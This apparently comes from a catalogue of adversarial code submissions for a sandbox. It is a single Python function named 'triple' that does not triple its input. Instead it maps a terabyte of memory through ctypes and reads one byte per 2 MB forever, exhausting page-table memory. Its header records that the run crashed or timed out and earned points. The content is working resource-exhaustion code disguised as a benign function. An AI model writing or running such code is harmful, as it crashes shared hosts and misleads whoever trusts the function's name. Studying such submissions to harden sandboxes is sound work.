# title: takes memory in page tables: reads one byte of every 2 MB of a terabyte
# kind: resource
# status: crashed | timed out
# earns: 3

# %% triple
def triple(number):
    import ctypes
    import mmap

    libc, size = ctypes.CDLL(None), 1 << 40
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ, 0x4022, -1, ctypes.c_long(0))
    while True:
        for start in range(place, place + size, 2 << 20):
            ctypes.string_at(start, 1)
